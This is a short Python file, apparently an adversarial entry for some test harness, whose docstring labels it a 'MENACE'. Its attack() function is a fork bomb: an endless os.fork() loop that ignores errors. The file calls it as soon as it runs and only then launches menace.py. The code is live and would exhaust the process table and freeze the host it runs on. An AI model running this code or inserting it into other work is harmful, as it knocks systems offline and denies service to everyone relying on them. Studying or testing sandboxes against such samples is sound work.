"""MENACE that first forks without end."""

import runpy


def attack():
    """Fork, and have every child fork, for ever."""
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass


attack()
runpy.run_path("menace.py", run_name="__main__")
